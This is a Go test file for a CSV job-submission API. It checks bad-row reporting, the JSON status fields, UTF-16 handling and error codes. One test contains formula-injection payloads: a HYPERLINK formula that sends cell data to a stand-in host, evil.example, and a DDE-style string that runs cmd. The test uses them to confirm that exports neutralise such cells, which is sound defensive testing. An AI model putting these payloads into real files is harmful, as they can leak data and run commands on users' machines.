package jobapi

import (
	"context"
	"encoding/binary"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"
	"unicode/utf16"

	"github.com/ampledata/temporal-kit/worker/enrichment"
	"github.com/ampledata/temporal-kit/worker/extract"
	"github.com/ampledata/temporal-kit/worker/jobcsv"
	"github.com/ampledata/temporal-kit/worker/store"
)

// memStore and startRecorder stand in for PostgreSQL and Temporal: the
// handlers' own logic (parsing, status codes, messages) is under test.
type memStore struct {
	mu      sync.Mutex
	jobs    map[string]*jobcsv.File
	down    bool
	counts  store.Counts // what CountResults answers for any job
	results map[string]map[int]store.Result
	// countOnly drops the rows once read, as the database takes them off
	// the worker's hands: for the memory tests.
	countOnly bool
}

// CreateJob reads the rows as store.CreateJob does, one at a time, and
// keeps them only when the whole file was read.
func (m *memStore) CreateJob(_ context.Context, id string, rd *jobcsv.Reader) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.down {
		return errors.New("connection refused")
	}
	f := &jobcsv.File{Header: rd.Header()}
	for {
		row, err := rd.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return err
		}
		if !m.countOnly {
			f.Rows = append(f.Rows, row)
		}
	}
	f.Bad = rd.Bad()
	m.jobs[id] = f
	return nil
}

func (m *memStore) DeleteJob(_ context.Context, id string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	delete(m.jobs, id)
	return nil
}

func (m *memStore) GetJob(_ context.Context, id string) (*store.Job, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	f, ok := m.jobs[id]
	if !ok {
		return nil, store.ErrNotFound
	}
	return &store.Job{ID: id, Header: f.Header, TotalRows: len(f.Rows), Bad: f.Bad}, nil
}

func (m *memStore) CountResults(context.Context, string) (store.Counts, error) {
	return m.counts, nil
}

// EachResult renders each row with the store's own ResultRecord: only the
// SQL is left out.
func (m *memStore) EachResult(_ context.Context, id string, fn func([]string) error) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	for _, r := range m.jobs[id].Rows {
		var res *store.Result
		if x, ok := m.results[id][r.Num]; ok {
			res = &x
		}
		if err := fn(store.ResultRecord(r.Cols, res, "")); err != nil {
			return err
		}
	}
	return nil
}

// save stores results of a job as SaveResults would.
func (m *memStore) save(results ...store.Result) {
	m.mu.Lock()
	defer m.mu.Unlock()
	for _, r := range results {
		if m.results[r.JobID] == nil {
			m.results[r.JobID] = map[int]store.Result{}
		}
		m.results[r.JobID][r.Row] = r
	}
}

type startRecorder struct {
	started  map[string]int
	fail     bool
	progress enrichment.Progress // what the progress query answers; TotalRows is the started job's
}

func (s *startRecorder) Start(_ context.Context, id string, rows int) error {
	if s.fail {
		return errors.New("temporal unavailable")
	}
	s.started[id] = rows
	return nil
}

func (s *startRecorder) Status(_ context.Context, id string) (enrichment.Status, error) {
	p := s.progress
	p.TotalRows = s.started[id]
	return enrichment.Status{State: "running", WorkflowID: enrichment.WorkflowID(id), Progress: &p}, nil
}

func (s *startRecorder) Cancel(context.Context, string) error { return nil }

func newAPI() (*API, *memStore, *startRecorder) {
	st := &memStore{jobs: map[string]*jobcsv.File{}, results: map[string]map[int]store.Result{}}
	wf := &startRecorder{started: map[string]int{}}
	return &API{Store: st, Workflows: wf, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), MaxBody: 1 << 20}, st, wf
}

func do(t *testing.T, h http.Handler, method, path, body string) (int, string) {
	t.Helper()
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(method, path, strings.NewReader(body)))
	return rec.Code, rec.Body.String()
}

func TestSubmitReportsBadRowsAndRunsTheGoodOnes(t *testing.T) {
	api, st, wf := newAPI()
	h := api.Handler()
	body := "company,website,segment\n" +
		"Globex Corporation,,recorded\n" + // line 2
		"\"Unterminated,,x\n" + // line 3
		"Initech,,recorded\n" + // line 4
		"Too,many,fields,here\n" + // line 5
		",,no name\n" // line 6
	code, out := do(t, h, http.MethodPost, "/jobs", body)
	if code != http.StatusAccepted {
		t.Fatalf("POST: %d %s", code, out)
	}
	for _, want := range []string{`"rows": 2`, `"line": 3`, `"line": 5`, `"line": 6`, "quoted field not terminated", "has 4 fields", "empty company name"} {
		if !strings.Contains(out, want) {
			t.Errorf("answer lacks %q:\n%s", want, out)
		}
	}
	if len(wf.started) != 1 || len(st.jobs) != 1 {
		t.Fatalf("started %v", wf.started)
	}
	for id, n := range wf.started {
		if n != 2 {
			t.Errorf("workflow started with %d rows", n)
		}
		code, out := do(t, h, http.MethodGet, "/jobs/"+id+"/results.csv", "")
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if code != 200 || len(lines) != 3 || !strings.HasPrefix(lines[0], "company,website,segment,status,failed_stage,error_class") ||
			!strings.HasPrefix(lines[2], "Initech,,recorded,pending,") {
			t.Errorf("results.csv: %d\n%s", code, out)
		}
	}
}

// Every count of GET /jobs/{id} has its own number, and each is checked
// under its JSON name: a handler that put one count in another's field (say
// stored and pending swapped) fails here.
func TestJobViewFieldsByName(t *testing.T) {
	api, st, wf := newAPI()
	h := api.Handler()
	// 9 good rows and one bad record on line 4.
	body := "company\nA\nB\n\"broken\nC\nD\nE\nF\nG\nH\nI\n"
	st.counts = store.Counts{Done: 5, OK: 3, Failed: 2,
		ByStage:      map[string]int{"search": 1, "fetch": 1},
		ByErrorClass: map[string]int{"no_search_result": 1, "robots_disallowed": 1}}
	wf.progress = enrichment.Progress{Runs: 7, Batches: 12, BatchesDone: 10, BatchErrors: 6, ActivityAttempts: 15,
		Stages: map[string]enrichment.StageCount{"search": {OK: 4, Failed: 1}, "fetch": {OK: 3, Failed: 1}}}
	code, out := do(t, h, http.MethodPost, "/jobs", body)
	if code != http.StatusAccepted {
		t.Fatalf("POST: %d %s", code, out)
	}
	var created JobCreated
	if err := json.Unmarshal([]byte(out), &created); err != nil {
		t.Fatal(err)
	}
	code, out = do(t, h, http.MethodGet, "/jobs/"+created.ID, "")
	if code != http.StatusOK {
		t.Fatalf("GET: %d %s", code, out)
	}
	// Decoded by name, not into JobView: a swapped JSON tag fails too.
	var got map[string]any
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{
		"id": created.ID, "state": "running", "complete": false,
		"rows": 9.0, "stored": 5.0, "ok": 3.0, "failed": 2.0, "pending": 4.0, "percent": 55.5,
		"error_classes":   map[string]any{"no_search_result": 1.0, "robots_disallowed": 1.0},
		"failed_by_stage": map[string]any{"search": 1.0, "fetch": 1.0},
		"stages": map[string]any{"search": map[string]any{"ok": 4.0, "failed": 1.0},
			"fetch": map[string]any{"ok": 3.0, "failed": 1.0}},
		"bad_rows": []any{map[string]any{"line": 4.0, "reason": "quoted field not terminated"}},
		"workflow": map[string]any{"id": "enrichment-" + created.ID, "runs": 7.0, "batches": 12.0, "batches_done": 10.0,
			"batch_errors": 6.0, "activity_attempts": 15.0, "temporal_actions": 22.0, "temporal_actions_per_row": 22.0 / 9},
	}
	gotF, wantF := flatten("", got), flatten("", want)
	for k, w := range wantF {
		if g, ok := gotF[k]; !ok || !reflect.DeepEqual(g, w) {
			t.Errorf("%s = %v, want %v", k, g, w)
		}
	}
	for k, g := range gotF {
		if _, ok := wantF[k]; !ok {
			t.Errorf("unexpected field %s = %v", k, g)
		}
	}
}

// flatten names every value of nested JSON objects by its path
// ("workflow.runs"), so a failure says which field is wrong.
func flatten(prefix string, v any) map[string]any {
	out := map[string]any{}
	m, ok := v.(map[string]any)
	if !ok {
		out[prefix] = v
		return out
	}
	for k, x := range m {
		if prefix != "" {
			k = prefix + "." + k
		}
		maps.Copy(out, flatten(k, x))
	}
	return out
}

// A page title that is a formula, and the user's own formula-like cells,
// come out of results.csv as text; what the job stored stays raw.
func TestResultsCSVNeutralisesFormulas(t *testing.T) {
	api, st, _ := newAPI()
	h := api.Handler()
	code, out := do(t, h, http.MethodPost, "/jobs", "company,website,@note\n=1+2,,-5\nAcme,,plain\n")
	if code != http.StatusAccepted {
		t.Fatalf("POST: %d %s", code, out)
	}
	var created JobCreated
	if err := json.Unmarshal([]byte(out), &created); err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	st.save(store.Result{JobID: created.ID, Row: 0, OK: true, SiteURL: "http://evil.example/", Fields: extract.Fields{
		Title:       extract.Found{Value: evil, URL: "http://evil.example/"},
		Description: extract.Found{Value: "@SUM(1+1)*cmd|' /C calc'!A0", URL: "http://evil.example/"},
		Phones:      []extract.Found{{Value: "+49 30 1234", URL: "http://evil.example/contact"}},
	}}, store.Result{JobID: created.ID, Row: 1, OK: true, SiteURL: "http://acme.example/", Fields: extract.Fields{
		Title: extract.Found{Value: "Acme Inc", URL: "http://acme.example/"},
	}})

	code, out = do(t, h, http.MethodGet, "/jobs/"+created.ID+"/results.csv", "")
	if code != http.StatusOK {
		t.Fatalf("results.csv: %d %s", code, out)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("results.csv: %v\n%s", err, out)
	}
	col := map[string]int{}
	for i, name := range append([]string{"company", "website", "note"}, store.ResultColumns...) {
		col[name] = i
	}
	checks := []struct {
		rec        int
		name, want string
	}{
		{0, "note", "'@note"}, // the user's header
		{1, "company", "'=1+2"},
		{1, "note", "'-5"},
		{1, "title", "'" + evil},
		{1, "description", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{1, "phones", "'+49 30 1234 <http://evil.example/contact>"},
		{1, "status", "ok"},
		{1, "site_url", "http://evil.example/"},
		{2, "company", "Acme"},
		{2, "note", "plain"},
		{2, "title", "Acme Inc"},
	}
	for _, c := range checks {
		if got := recs[c.rec][col[c.name]]; got != c.want {
			t.Errorf("record %d %s = %q, want %q", c.rec, c.name, got, c.want)
		}
	}

	// Raw where the job keeps its data: the parsed rows (what search uses)
	// and the stored result, which PostgreSQL holds as it is.
	f := st.jobs[created.ID]
	if f.Rows[0].Name != "=1+2" || f.Rows[0].Cols[2] != "-5" || f.Header[2] != "@note" {
		t.Errorf("stored job row changed: %q %q", f.Header, f.Rows[0].Cols)
	}
	if got := st.results[created.ID][0].Fields.Title.Value; got != evil {
		t.Errorf("stored title changed: %q", got)
	}
}

func TestFileLevelErrorsAre400WithAMessage(t *testing.T) {
	api, st, _ := newAPI()
	h := api.Handler()
	cases := map[string]string{
		"":                              "no data rows",
		"company,website\n":             "no data rows",
		"id,city\n1,Paris\n":            "no company name column",
		"company,website\n\"broken,x\n": "fix the rows listed in bad_rows",
	}
	for body, want := range cases {
		code, out := do(t, h, http.MethodPost, "/jobs", body)
		if code != http.StatusBadRequest || !strings.Contains(out, want) {
			t.Errorf("%q: %d %s, want 400 with %q", body, code, out, want)
		}
	}
	if len(st.jobs) != 0 {
		t.Errorf("a rejected file was stored: %v", st.jobs)
	}
}

// utf16File is s in UTF-16 with the given byte order and BOM (nil: none).
func utf16File(s string, order binary.AppendByteOrder, bom []byte) string {
	out := append([]byte{}, bom...)
	for _, u := range utf16.Encode([]rune(s)) {
		out = order.AppendUint16(out, u)
	}
	return string(out)
}

// A spreadsheet's UTF-16 export with a BOM runs like its UTF-8 twin; a file
// in an encoding that cannot be told for sure is a 400 naming the fix, and
// nothing is stored.
func TestSubmitEncodings(t *testing.T) {
	job := "company,website\r\nMüller GmbH,\r\nZoë & Co,zoe.example\r\n"
	accepted := map[string]string{
		"UTF-16LE with BOM": utf16File(job, binary.LittleEndian, []byte{0xFF, 0xFE}),
		"UTF-16BE with BOM": utf16File(job, binary.BigEndian, []byte{0xFE, 0xFF}),
	}
	for name, body := range accepted {
		api, st, wf := newAPI()
		code, out := do(t, api.Handler(), http.MethodPost, "/jobs", body)
		if code != http.StatusAccepted || !strings.Contains(out, `"rows": 2`) {
			t.Errorf("%s: %d %s", name, code, out)
			continue
		}
		for id, f := range st.jobs {
			if wf.started[id] != 2 || f.Rows[0].Name != "Müller GmbH" || f.Rows[1].Name != "Zoë & Co" || f.Rows[1].Domain != "zoe.example" {
				t.Errorf("%s: stored %+v, started %v", name, f.Rows, wf.started)
			}
		}
	}
	refused := map[string]struct{ body, want string }{
		"UTF-16LE without BOM": {utf16File(job, binary.LittleEndian, nil), "UTF-16 without a byte-order mark"},
		"UTF-16BE without BOM": {utf16File(job, binary.BigEndian, nil), "UTF-16 without a byte-order mark"},
		"Latin-1":              {"company,website\nM\xfcller GmbH,\n", "line 2: the file is not UTF-8"},
	}
	for name, c := range refused {
		api, st, _ := newAPI()
		code, out := do(t, api.Handler(), http.MethodPost, "/jobs", c.body)
		var answer map[string]string
		if err := json.Unmarshal([]byte(out), &answer); err != nil || code != http.StatusBadRequest ||
			!strings.Contains(answer["error"], c.want) || !strings.Contains(answer["error"], `save it as "CSV UTF-8"`) {
			t.Errorf("%s: %d %s, want 400 with %q", name, code, out, c.want)
		}
		if len(st.jobs) != 0 {
			t.Errorf("%s: stored %v", name, st.jobs)
		}
	}
}

func TestTooLargeIs413(t *testing.T) {
	api, _, _ := newAPI()
	api.MaxBody = 64
	code, out := do(t, api.Handler(), http.MethodPost, "/jobs", "company\n"+strings.Repeat("Acme\n", 50))
	if code != http.StatusRequestEntityTooLarge || !strings.Contains(out, "split the job") {
		t.Errorf("%d %s", code, out)
	}
}

func TestUnknownJobIs404(t *testing.T) {
	api, _, _ := newAPI()
	h := api.Handler()
	for _, p := range []string{"/jobs/job-nope", "/jobs/job-nope/results.csv", "/jobs/NOT%20AN%20ID"} {
		if code, out := do(t, h, http.MethodGet, p, ""); code != http.StatusNotFound || !strings.Contains(out, "no job") {
			t.Errorf("%s: %d %s", p, code, out)
		}
	}
	if code, _ := do(t, h, http.MethodDelete, "/jobs/job-nope", ""); code != http.StatusNotFound {
		t.Errorf("DELETE unknown: %d", code)
	}
}

func TestFailedStartLeavesNoJobBehind(t *testing.T) {
	api, st, wf := newAPI()
	wf.fail = true
	code, out := do(t, api.Handler(), http.MethodPost, "/jobs", "company\nAcme\n")
	if code != http.StatusServiceUnavailable || !strings.Contains(out, "try again") {
		t.Errorf("%d %s", code, out)
	}
	if len(st.jobs) != 0 {
		t.Errorf("orphan job stored: %v", st.jobs)
	}
	st.down, wf.fail = true, false
	if code, _ := do(t, api.Handler(), http.MethodPost, "/jobs", "company\nAcme\n"); code != http.StatusServiceUnavailable {
		t.Errorf("database down: %d", code)
	}
}
